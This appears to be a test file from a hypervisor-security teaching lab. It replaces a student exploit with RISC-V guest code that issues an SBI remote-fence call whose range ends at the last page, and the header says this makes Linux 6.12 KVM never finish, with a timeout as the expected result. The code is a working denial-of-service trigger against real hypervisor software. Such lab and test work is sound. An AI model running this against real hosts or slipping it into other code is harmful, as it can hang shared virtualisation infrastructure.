//@ why The student's own guest asks for a fence that KVM of Linux 6.12 never ends: its range ends in the last page.
//@ lab 02
//@ apart
//@ loses exploit
//@ ends timed out
//@ replace tests/labs/02-break-and-check/exploit.c
void
guest_main(uint64_t hart, uint64_t fdt)
{
    register uint64_t mask __asm__("a0") = 1, base __asm__("a1") = 0, start __asm__("a2") = -8192UL,
                      size __asm__("a3") = 8000, fid __asm__("a6") = 1, eid __asm__("a7") = 0x52464E43;

    (void)hart, (void)fdt;
    __asm__ volatile("ecall" : "+r"(mask), "+r"(base) : "r"(start), "r"(size), "r"(fid), "r"(eid) : "memory");
    put("ok\n");
    duet_power_off(0);
}
